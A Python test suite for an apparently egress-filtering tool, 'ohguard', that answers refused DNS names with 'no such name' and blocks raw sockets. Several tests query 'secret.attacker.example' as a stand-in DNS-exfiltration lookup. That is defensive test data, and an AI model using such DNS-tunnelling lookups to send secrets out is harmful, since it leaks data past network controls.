# SPDX-License-Identifier: MIT
"""A refused name is answered at once, as "no such name": `ohguard serve` beside the guard, in the lab."""
import json
import shutil
import signal
import subprocess
import sys

import pytest

from guard import ALLOWED, BINARY, Guard, poll
from lab import topology

RESOLVERS = [topology.RESOLVER, "fd00:ec2::253"]
PAUSE = 0.05

QUERY = """
import errno, socket, struct, sys
to, name, tcp, edns = sys.argv[1], sys.argv[2], sys.argv[3] == "tcp", sys.argv[4] == "edns"
family = socket.AF_INET6 if ":" in to else socket.AF_INET
question = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0" + struct.pack("!HH", 1, 1)
opt = b"\\0" + struct.pack("!HHIH", 41, 1232, 0, 0) if edns else b""
query = struct.pack("!HH4H", 0x4242, 0x0100, 1, 0, 0, int(edns)) + question + opt
s = socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
s.settimeout(5)
try:
    s.connect((to, 53))
    s.sendall((struct.pack("!H", len(query)) if tcp else b"") + query)
    answer = s.recv(4096)[2 if tcp else 0:]
    identity, flags, *counts = struct.unpack("!HH4H", answer[:12])
    good = identity == 0x4242 and flags == 0x8183 and answer[12:12 + len(question)] == question
    rest = answer[12 + len(question):]
    blocked = rest[:9] == opt[:9] and rest[9:] == b"\\0\\6\\0\\x0f\\0\\2\\0\\x0f" if edns else not rest
    print("no such name" if good and blocked and counts == [1, 0, 0, int(edns)] else answer.hex())
except OSError as e:
    print(errno.errorcode.get(e.errno, "timeout"))
"""


class Server:
    """The helper, alive until it is killed."""

    def __init__(self, guard):
        self.guard = guard
        self.process = guard.lab.server.popen([BINARY, "serve"], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                                              text=True)
        poll(lambda: guard.ask("wait.example") == "no such name", "an answer")

    def end(self, how=signal.SIGTERM):
        self.process.send_signal(how)
        return self.process.wait(20)


class Answered(Guard):
    def ask(self, name, to=topology.RESOLVER, tcp=False, edns=False):
        return self.python(QUERY, to, name, "tcp" if tcp else "udp", "edns" if edns else "plain")


@pytest.fixture
def guard(lab):
    g = Answered(lab)
    try:
        g.load()
        yield g
    finally:
        g.close()


@pytest.fixture
def server(guard):
    s = Server(guard)
    try:
        yield s
    finally:
        s.process.kill()
        s.process.wait()


@pytest.mark.parametrize("to", [topology.RESOLVER])
@pytest.mark.parametrize("edns", [False, True])
@pytest.mark.parametrize("tcp", [False, True])
def test_refused_name_is_no_such_name(guard, server, to, tcp, edns):
    with guard.nothing_leaves():
        assert guard.ask("secret.attacker.example", to, tcp, edns) == "no such name"
    assert {"dns-name-not-allowed"} == {e["reason"] for e in guard.events()}


def test_nothing_of_a_refused_query_leaves(guard, server):
    mark = guard.lab.wire.mark()
    assert guard.ask("secret.attacker.example") == guard.ask("secret.attacker.example", tcp=True) == "no such name"
    assert not [f for f in guard.lab.wire.traffic(mark) if b"secret" in bytes(f.payload)]
    assert guard.curl(f"https://{ALLOWED}") == 0


@pytest.mark.parametrize("how", ["never", signal.SIGTERM, signal.SIGKILL])
def test_without_the_helper_the_sender_is_told_by_an_error(guard, how):
    if how != "never":
        Server(guard).end(how)
    assert poll(lambda: guard.ask("secret.attacker.example") == "EPERM", "an error")
    with guard.nothing_leaves():
        assert guard.ask("secret.attacker.example") == "EPERM"


def test_refuse_error_is_as_it_was(guard, server):
    guard.load(dns=("refuse = error",))
    with guard.nothing_leaves():
        assert guard.ask("secret.attacker.example") == "EPERM"
    assert "sockopt" not in {h["hook"] for h in guard.json("status")["hooks"] if h["attached"]}


def test_answers_go_on_over_a_load_and_an_unload(guard, server):
    guard.load()
    assert guard.ask("secret.attacker.example") == "no such name"
    guard.ok("unload", "--yes")
    assert server.process.wait(20) == 3


def test_second_helper_is_refused(guard, server):
    r = guard.run("serve")
    assert r.returncode == 1 and "another `ohguard serve` is answering" in r.stderr


def test_refused_tls_name_is_reset(guard, server):
    with guard.nothing_leaves(*topology.ZONE[ALLOWED]):
        r = guard.lab.server.run(["curl", "-sS", "--resolve", f"google.com:443:{topology.ZONE[ALLOWED][0]}",
                                  "https://google.com"],
                                 guarded=True)
    assert r.returncode == 35 and "reset by peer" in r.stderr, r.stderr


def test_helper_alone_may_make_raw_sockets(guard, server):
    code = ("import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)\n    print('ok')\n"
            "except OSError as e:\n    print(e.errno)")
    assert guard.python(code) == "1"
